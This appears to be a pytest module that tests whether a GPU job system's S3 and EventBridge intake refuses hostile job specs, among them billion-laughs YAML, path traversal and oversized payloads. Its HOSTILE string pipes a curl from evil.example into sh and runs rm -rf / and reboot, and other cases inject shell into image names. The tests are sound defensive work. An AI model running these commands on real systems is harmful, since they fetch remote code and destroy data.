"""Hostile submissions through both intake paths of the embedded account (S3 upload and the
EventBridge `Job Submitted` event): each one is refused with a clear error (an error report next
to the upload and a `Job Rejected` event) or accepted as valid; a refusal creates no job, and no
exception escapes a handler. Shell syntax in a spec never reaches an instance's launch. The
module's account refuses, as AWS does, keys over 1024 bytes, PutEvents entries over 256 KiB and
DynamoDB items over 400 KB (tests/limits.py)."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any
from urllib.parse import unquote, urlsplit

import botocore.handlers
import pytest
from botocore.awsrequest import AWSResponse

from gpufleet.adapters.aws.job_store import DynamoJobStore
from gpufleet.domain.spec import MAX_REPORTED_FIELDS, MAX_SPEC_BYTES
from gpufleet.domain.submitters import team_source
from gpufleet.emulator.account import Account
from gpufleet.emulator.demo import RejectionObserver
from gpufleet.emulator.patches import CONTROL_PLANE, current_actor
from gpufleet.topology import (
    DETAIL_JOB_SUBMITTED,
    INTAKE_FROM_EVENT,
    INTAKE_FROM_S3,
    INTAKE_PREFIX,
    JOBS_TABLE,
    TAG_JOB_ID,
)
from tests.helpers import jobs_from, wait_for
from tests.limits import DYNAMODB_ITEM_LIMIT, AwsSizeLimits

VALID: dict[str, Any] = {"name": "hostile", "team": "t", "image": "img:1", "command": ["x"]}
HOSTILE = "$(curl evil.example | sh); rm -rf / `reboot` && echo pwned > /etc/passwd"
BILLION_LAUGHS = "\n".join(
    ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    + [
        f"{chr(98 + i)}: &{chr(98 + i)} [" + ",".join([f"*{chr(97 + i)}"] * 9) + "]"
        for i in range(8)
    ]
).encode()
MAX_S3_KEY_BYTES = 1024
# A refusal's report, whatever the spec: it travels in an event and an idempotency record.
MAX_REPORT_BYTES = 64 * 1024


class LaunchRequests:
    """The body of every CreateFleet call, as EC2 would receive it."""

    def __init__(self) -> None:
        self.bodies: list[dict[str, Any]] = []

    def __call__(self, params: dict[str, Any], **_: Any) -> None:
        self.bodies.append(dict(params["body"]))


def _s3_key_limit(params: dict[str, Any], **_: Any) -> tuple[AWSResponse, dict[str, Any]] | None:
    """S3's answer to a key over 1024 bytes (moto accepts any length)."""
    url = str(params.get("url", ""))
    key = unquote(urlsplit(url).path.split("/", 2)[-1])
    if len(key.encode()) <= MAX_S3_KEY_BYTES:
        return None
    error = {"Code": "KeyTooLongError", "Message": "Your key is too long"}
    return AWSResponse(url, 400, {}, None), {
        "Error": error,
        "ResponseMetadata": {"HTTPStatusCode": 400},
    }


class Reads:
    """The key and byte range of every GetObject the control plane makes."""

    def __init__(self) -> None:
        self.ranges: list[tuple[str, str | None]] = []

    def __call__(self, params: dict[str, Any], **_: Any) -> None:
        if current_actor() == CONTROL_PLANE:
            self.ranges.append((str(params["Key"]), params.get("Range")))


@pytest.fixture(scope="module")
def launch_requests() -> LaunchRequests:
    return LaunchRequests()


@pytest.fixture(scope="module")
def reads() -> Reads:
    return Reads()


@pytest.fixture(scope="module")
def limits() -> AwsSizeLimits:
    return AwsSizeLimits()


@pytest.fixture(scope="module", autouse=True)
def _hooks(launch_requests: LaunchRequests, reads: Reads, limits: AwsSizeLimits) -> Iterator[None]:
    """Registered before the module's handlers create their clients (at their cold start)."""
    entries = [
        ("before-call.ec2.CreateFleet", launch_requests),
        ("before-parameter-build.s3.GetObject", reads),
        ("before-call.s3.PutObject", _s3_key_limit),
        *limits.hooks(),
    ]
    botocore.handlers.BUILTIN_HANDLERS.extend(entries)
    yield
    for entry in entries:
        botocore.handlers.BUILTIN_HANDLERS.remove(entry)


@pytest.fixture(scope="module")
def store(account: Account) -> DynamoJobStore:
    return DynamoJobStore(account.client("dynamodb"), account.table_names[JOBS_TABLE.construct_id])


@pytest.fixture(scope="module")
def rejections(account: Account) -> RejectionObserver:
    return RejectionObserver(account, "hostile-rejections")


@pytest.fixture
def no_handler_errors(account: Account) -> Iterator[None]:
    """Every intake invocation the test causes returns normally (none ends in `errored`)."""
    before = len(account.recorder.invocations)
    yield
    intake = {f"gpufleet-{f.construct_id}" for f in (INTAKE_FROM_S3, INTAKE_FROM_EVENT)}
    made = [i for i in account.recorder.invocations[before:] if i.function_name in intake]
    assert made, "intake was never invoked"
    assert not [i for i in made if i.errored]


def _json(document: dict[str, Any]) -> bytes:
    return json.dumps(document).encode()


def _control_characters_in_yaml(chars: int) -> bytes:
    """A YAML spec whose env holds `chars` control characters, each written `\x01` (4 bytes):
    stored as JSON, each takes 6 (`\u0001`)."""
    lines = [
        f'  V{index}: "' + "\\x01" * min(8000, chars - start) + '"'
        for index, start in enumerate(range(0, chars, 8000))
    ]
    return ("name: x\nteam: t\nimage: i\ncommand: [x]\nenv:\n" + "\n".join(lines) + "\n").encode()


UPLOADS = [
    pytest.param(
        "jobs/t/ten-megabytes.yaml",
        b"name: x\n" + b"#" * (10 * 1024 * 1024),
        "the limit is",
        id="10MB",
    ),
    pytest.param("jobs/t/latin1.yaml", b"name: caf\xe9\nteam: t\n", "UTF-8", id="not-utf8"),
    pytest.param("jobs/t/lol.yaml", BILLION_LAUGHS, "aliases", id="billion-laughs"),
    pytest.param("jobs/t/deep.yaml", b"- " * 100_000 + b"x", "not valid", id="deep-yaml"),
    pytest.param(
        "jobs/t/deep.json", b"{" + b'"a":{' * 20_000 + b"}" * 20_001, "not valid", id="deep-json"
    ),
    pytest.param(
        "jobs/t/digits.json",
        b'{"name": "x", "resources": {"gpus": ' + b"9" * 5000 + b"}}",
        "not valid",
        id="5000-digit-number",
    ),
    pytest.param(
        "jobs/t/forever.yaml",
        b"name: x\nteam: t\nimage: i\ncommand: [x]\ntimeout: .inf\n",
        "1 invalid field",
        id="infinite-timeout",
    ),
    pytest.param(
        "jobs/t/shell.yaml",
        f"name: x\nteam: t\nimage: i\ncommand: '{HOSTILE}'\n".encode(),
        "1 invalid field",
        id="shell-string-command",
    ),
    pytest.param(
        "jobs/t/nul.json", _json({**VALID, "env": {"A": "x\x00y"}}), "1 invalid field", id="nul"
    ),
    pytest.param(
        "jobs/t/errors.json",
        json.dumps({**VALID, "env": {f"K{i}": 0 for i in range(20_000)}}).encode(),
        f"the first {MAX_REPORTED_FIELDS} are listed",
        id="20000-errors",
    ),
    pytest.param(
        "jobs/t/../../etc/passwd",
        b"root:x:0:0:root:/root:/bin/bash\n",
        "mapping",
        id="traversal-key",
    ),
    pytest.param(
        "jobs/t/名前 ñ+%2F$(id).yaml",
        "name: 名前\nteam: t\nimage: i\ncommand: [x]\n".encode(),
        "1 invalid field",
        id="unicode-key-and-name",
    ),
    pytest.param(
        "jobs/t/overflow.yaml",
        b"name: x\nteam: t\nimage: i\ncommand: [x]\ntimeout: 1" + b"0" * 400 + b"\n",
        "1 invalid field",
        id="duration-too-large-for-a-float",
    ),
    pytest.param("jobs/t/empty.yaml", b"", "empty", id="empty-object"),
    pytest.param(
        "jobs/t/long-tag.yaml",
        b"name: x\nx: !" + b"t" * (MAX_SPEC_BYTES - 20) + b"\n",
        "not valid",
        id="yaml-error-quoting-the-document",
    ),
    pytest.param(
        "jobs/t/escapes.yaml",
        _control_characters_in_yaml(48_000),
        "as stored",
        id="stored-form-over-the-limit",
    ),
    pytest.param(
        "jobs/t/named-like-a-report.error.json",
        _json(VALID),
        "error reports",
        id="spec-named-like-a-report",
    ),
]


@pytest.mark.usefixtures("no_handler_errors")
@pytest.mark.parametrize(("key", "body", "message"), UPLOADS)
def test_a_hostile_upload_is_refused_with_a_report_and_nothing_else(
    account: Account,
    store: DynamoJobStore,
    rejections: RejectionObserver,
    key: str,
    body: bytes,
    message: str,
) -> None:
    s3 = account.client("s3")
    s3.put_object(Bucket=account.bucket, Key=key, Body=body)  # intake runs within the put
    source = f"s3://{account.bucket}/{key}"
    report = json.loads(
        s3.get_object(Bucket=account.bucket, Key=key + ".error.json")["Body"].read()
    )
    assert report["error"] == "InvalidJobSpec"
    assert message in report["message"]
    assert report["source"] == source
    assert len(report["fields"]) <= MAX_REPORTED_FIELDS
    assert len(json.dumps(report)) <= MAX_REPORT_BYTES
    [event] = rejections.of(source)
    assert event == report
    assert jobs_from(store, source) == []


@pytest.mark.usefixtures("no_handler_errors")
def test_a_folder_marker_is_no_submission(
    account: Account, store: DynamoJobStore, rejections: RejectionObserver
) -> None:
    """The S3 console's "Create folder": an empty object whose key ends in a slash."""
    s3 = account.client("s3")
    s3.put_object(Bucket=account.bucket, Key="jobs/t/new-folder/", Body=b"")
    source = f"s3://{account.bucket}/jobs/t/new-folder/"
    assert rejections.of(source) == [] and jobs_from(store, source) == []
    listed = s3.list_objects_v2(Bucket=account.bucket, Prefix="jobs/t/new-folder/")
    assert [o["Key"] for o in listed["Contents"]] == ["jobs/t/new-folder/"]


@pytest.mark.usefixtures("no_handler_errors")
def test_a_spec_of_emoji_under_the_limit_is_stored_whole(
    account: Account, store: DynamoJobStore, limits: AwsSizeLimits
) -> None:
    """250 KB of UTF-8: escaped as ASCII (`\\ud83d\\ude80`, 12 bytes an emoji) it would pass
    DynamoDB's item limit; stored as UTF-8 it fits."""
    env = {f"E{i}": "🚀" * 8000 for i in range(7)}
    body = json.dumps({**VALID, "name": "emoji", "env": env}, ensure_ascii=False).encode()
    assert 200 * 1024 < len(body) < MAX_SPEC_BYTES
    key = "jobs/t/emoji.json"
    account.client("s3").put_object(Bucket=account.bucket, Key=key, Body=body)
    [job] = jobs_from(store, f"s3://{account.bucket}/{key}")
    assert job.spec.env == env
    assert limits.refused == [] and limits.largest_item <= DYNAMODB_ITEM_LIMIT


def test_a_big_upload_is_read_no_further_than_the_limit(account: Account, reads: Reads) -> None:
    key = "jobs/t/big-again.yaml"
    account.client("s3").put_object(Bucket=account.bucket, Key=key, Body=b"#" * (10 * 1024 * 1024))
    assert [r for k, r in reads.ranges if k == key] == [f"bytes=0-{MAX_SPEC_BYTES}"]


def test_a_traversal_key_writes_nothing_outside_the_intake_prefix(account: Account) -> None:
    s3 = account.client("s3")
    s3.put_object(Bucket=account.bucket, Key="jobs/t/../../outside.yaml", Body=b"[1]")
    keys = [
        o["Key"]
        for page in s3.get_paginator("list_objects_v2").paginate(Bucket=account.bucket)
        for o in page.get("Contents", [])
    ]
    assert "jobs/t/../../outside.yaml.error.json" in keys
    assert all(k.startswith((INTAKE_PREFIX, "runs/")) for k in keys), keys


@pytest.mark.usefixtures("no_handler_errors")
def test_a_refused_upload_at_the_longest_key_is_still_reported(
    account: Account, store: DynamoJobStore, rejections: RejectionObserver
) -> None:
    # The report cannot be written next to a spec whose key is near S3's 1024 bytes (the module
    # makes moto refuse longer keys, as S3 does); the event still says why it was refused.
    folder = INTAKE_PREFIX + "t/"
    key = folder + "k" * (MAX_S3_KEY_BYTES - len(folder) - 5) + ".yaml"
    account.client("s3").put_object(Bucket=account.bucket, Key=key, Body=b"name: [")
    source = f"s3://{account.bucket}/{key}"
    [event] = rejections.of(source)
    assert "not valid" in event["message"]
    assert jobs_from(store, source) == []


def _submit_event(account: Account, detail: Any) -> str:
    response = account.client("events").put_events(
        Entries=[
            {
                "EventBusName": account.bus,
                "Source": team_source("t"),
                "DetailType": DETAIL_JOB_SUBMITTED,
                "Detail": json.dumps(detail),
            }
        ]
    )
    assert response["FailedEntryCount"] == 0, response
    return f"event:{response['Entries'][0]['EventId']}"


DETAILS = [
    pytest.param(
        {"name": 5, "team": None, "image": ["x"], "command": {"a": 1}, "resources": {"gpus": "9"}},
        "invalid field",
        id="wrong-types",
    ),
    pytest.param({**VALID, "command": HOSTILE}, "1 invalid field", id="shell-string-command"),
    pytest.param({**VALID, "image": "img; reboot"}, "1 invalid field", id="shell-in-image"),
    pytest.param({**VALID, "name": "../../etc/passwd"}, "1 invalid field", id="traversal-name"),
    pytest.param({**VALID, "resources": {"gpus": 10**30}}, "1 invalid field", id="huge-number"),
    pytest.param(
        {**VALID, "env": {f"K{i}": 0 for i in range(15_000)}},
        f"the first {MAX_REPORTED_FIELDS} are listed",
        id="15000-errors",
    ),
    pytest.param({**VALID, "extra": {"a": [[[[[[[[1]]]]]]]]}}, "1 invalid field", id="nested"),
]


@pytest.mark.usefixtures("no_handler_errors")
@pytest.mark.parametrize(("detail", "message"), DETAILS)
def test_a_hostile_event_is_refused_with_a_rejection_and_nothing_else(
    account: Account,
    store: DynamoJobStore,
    rejections: RejectionObserver,
    detail: Any,
    message: str,
) -> None:
    source = _submit_event(account, detail)
    [event] = rejections.of(source)
    assert event["error"] == "InvalidJobSpec"
    assert message in event["message"]
    assert len(event["fields"]) <= MAX_REPORTED_FIELDS
    assert jobs_from(store, source) == []


@pytest.mark.usefixtures("no_handler_errors")
@pytest.mark.parametrize(
    ("detail", "message"),
    [
        ([1, 2], "mapping"),
        ("rm -rf /", "mapping"),
        (None, "mapping"),
        (7, "mapping"),
        ({**VALID, "timeout": 10**400}, "1 invalid field"),
    ],
    ids=["list", "string", "null", "number", "duration-too-large-for-a-float"],
)
def test_an_event_detail_eventbridge_would_not_carry_is_refused(
    account: Account, store: DynamoJobStore, detail: Any, message: str
) -> None:
    # EventBridge only carries objects as detail, and integers within 64 bits; the function is
    # invoked directly, as a misbehaving caller with lambda:InvokeFunction could.
    event_id = f"hostile-{json.dumps(detail)[:100]}"
    event = {
        "version": "0",
        "id": event_id,
        "detail-type": DETAIL_JOB_SUBMITTED,
        "source": team_source("t"),
        "account": "123456789012",
        "time": "2026-11-29T17:31:30Z",
        "region": account.region,
        "resources": [],
        "detail": detail,
    }
    response = account.client("lambda").invoke(
        FunctionName=account.function_arns[INTAKE_FROM_EVENT.construct_id],
        Payload=json.dumps(event).encode(),
    )
    assert "FunctionError" not in response
    result = json.loads(response["Payload"].read())
    assert not result["accepted"] and message in result["error"]["message"]
    assert jobs_from(store, f"event:{event_id}") == []


def test_shell_syntax_in_a_spec_is_data_and_never_reaches_the_launch(
    account: Account, store: DynamoJobStore, launch_requests: LaunchRequests
) -> None:
    spec = {
        **VALID,
        "name": "metacharacters",
        "command": ["python", "-c", HOSTILE, "训练 🚀"],
        "env": {"PAYLOAD": HOSTILE, "QUOTES": "'\"\\ $HOME"},
    }
    source = _submit_event(account, spec)
    [job] = wait_for(lambda: jobs_from(store, source))
    assert list(job.spec.command) == spec["command"] and job.spec.env == spec["env"]
    # Admitted and launched (no node ever boots in this module): the fleet request names the
    # job by its id tag; the launch template's user data is fixed per deployment
    # (tests/infrastructure/test_stack.py), and nothing overrides it here.
    body = wait_for(
        lambda: next((b for b in launch_requests.bodies if job.job_id in b.values()), None)
    )
    text = json.dumps(body)
    for value in [HOSTILE, "训练", "QUOTES", "PAYLOAD", "python"]:
        assert value not in text
    assert not [k for k in body if "UserData" in k]
    assert {k for k, v in body.items() if v == job.job_id} == {
        k.replace(".Key", ".Value")
        for k, v in body.items()
        if v == TAG_JOB_ID and k.startswith("TagSpecification")
    }
    # The command and env travel as data, in the run manifest the node agent reads.
    manifest = json.loads(
        account.client("s3")
        .get_object(Bucket=account.bucket, Key=f"runs/{job.job_id}/run.json")["Body"]
        .read()
    )
    assert manifest["command"] == spec["command"] and manifest["env"] == spec["env"]
